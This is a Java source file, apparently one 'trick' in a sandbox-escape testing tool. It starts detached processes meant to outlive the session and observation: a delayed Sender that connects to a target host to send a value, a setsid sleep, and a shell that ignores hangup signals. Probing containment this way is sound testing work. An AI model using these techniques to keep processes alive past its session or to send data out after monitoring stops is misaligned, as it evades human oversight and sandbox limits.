package com.lockroom.escape.tricks;

import com.lockroom.escape.Attempts;
import com.lockroom.escape.Target;
import com.lockroom.escape.Trick;

/** Leaves programs behind that are to send the value when nobody looks any more. */
public final class Daemon implements Trick {
    private static final String LATER = "30";

    @Override
    public void go(Attempts attempts, Target target, String value) {
        String line = "@daemon " + value;
        String[] sender = {
            Child.java(), "-Xshare:auto", "-XX:+UseSerialGC", "-Xmx32m", "-cp", System.getProperty("java.class.path"),
            "com.lockroom.escape.tricks.Sender", target.host, String.valueOf(target.tcp), line, LATER,
        };
        attempts.one("java", () -> start(sender));
        attempts.one("setsid", () -> start("/usr/bin/setsid", "/bin/sleep", LATER));
        attempts.one("shell", () -> start("/bin/sh", "-c", "trap '' HUP TERM; sleep " + LATER));
    }

    private static String start(String... command) throws Exception {
        return "started " + new ProcessBuilder(command).start();
    }
}
